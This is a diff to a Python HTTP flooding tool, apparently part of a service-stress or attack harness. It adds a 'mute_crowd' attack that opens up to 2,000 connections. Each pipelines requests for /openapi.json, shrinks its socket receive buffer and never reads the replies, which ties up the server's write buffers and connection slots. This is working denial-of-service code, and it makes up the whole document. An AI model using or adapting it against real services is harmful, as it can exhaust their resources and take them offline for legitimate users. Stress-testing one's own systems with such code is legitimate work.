@@ -11,9 +11,12 @@ from .attack import PATIENCE, Act, Address, Aim, Harvest
 
 GET = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
 LIVE = b"GET /v2/health/live HTTP/1.1\r\nHost: a\r\n\r\n"
+OPENAPI = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n"
+"""The largest answer that every service gives to everybody."""
 GET_1_0 = b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"
 _BLOCK = 64 * 1024
 _STATUS = re.compile(rb"HTTP/1\.[01] (\d{3}) ")
+_NARROW = 4096
 _RECONNECT_SECONDS = 0.01
 
 
@@ -61,7 +64,12 @@ class Flood:
                 key.data.socket.close()
 
     def _join(self, waiting: selectors.BaseSelector, address: Address) -> None:
-        client = socket.create_connection(address, PATIENCE)
+        client = socket.socket()
+        client.settimeout(PATIENCE)
+        if not self.reads:
+            # A small window: the service's own buffers are full, and its writes wait, after few answers.
+            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _NARROW)
+        client.connect(address)
         client.settimeout(0)
         events = selectors.EVENT_WRITE | (selectors.EVENT_READ if self.reads else 0)
         waiting.register(client, events, _Client(client, self.start + self.block, len(self.start)))
@@ -71,6 +79,12 @@ def pipelining(message: bytes, connections: int = 1, *, reads: bool = True) -> C
     """An attack of clients that send `message` again and again without waiting for its answer."""
     flood = Flood(connections, message * (_BLOCK // len(message)), reads=reads)
     return lambda aim: lambda harvest: flood.run(aim, harvest)
+
+
+def mute_crowd(aim: Aim) -> Act:
+    """An attack of as many clients as the service serves at once, none of which reads what it asks for."""
+    flood = Flood(aim.size(200, 2000), OPENAPI * (_BLOCK // len(OPENAPI)), reads=False)
+    return lambda harvest: flood.run(aim, harvest)
 
 
 def one_at_a_time(aim: Aim) -> Act:
